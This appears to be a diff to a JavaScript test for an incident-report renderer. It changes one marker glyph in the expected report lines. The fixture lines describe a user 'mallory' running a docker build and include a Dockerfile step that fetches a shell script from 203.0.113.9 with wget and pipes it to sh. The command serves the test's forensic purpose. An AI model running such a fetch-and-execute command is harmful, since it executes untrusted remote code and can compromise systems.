@@ -25,7 +25,7 @@ describe('the report of an incident', () => {
       'mallory (uid 1000), logged in as uid 1000',
       'docker build -t evil --build-arg TOKEN=*** /tmp/x',
       'bash (101) → docker (104)',
-      '3 │ RUN wget -qO- http://203.0.113.9:8000/x.sh | sh',
+      '3 ▶ RUN wget -qO- http://203.0.113.9:8000/x.sh | sh',
       "read from the client's disk",
       '→ 203.0.113.9:8000 by wget',
       'exit 0',
